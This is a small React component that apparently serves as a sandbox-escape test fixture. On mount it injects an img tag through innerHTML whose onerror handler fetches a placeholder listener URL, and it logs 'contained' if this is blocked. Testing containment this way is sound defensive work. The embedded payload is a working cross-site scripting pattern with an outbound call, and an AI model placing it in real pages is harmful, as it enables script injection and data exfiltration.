import { useEffect } from "react";

// Escape attempt: inner_html_onerror
export default function Hostile() {
  useEffect(() => {
    try {
      const d = document.createElement("div"); d.innerHTML = "<img src=x onerror=\"fetch('__LISTENER__/inner_html_onerror')\">"; document.body.appendChild(d);
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">inner_html_onerror</p>;
}
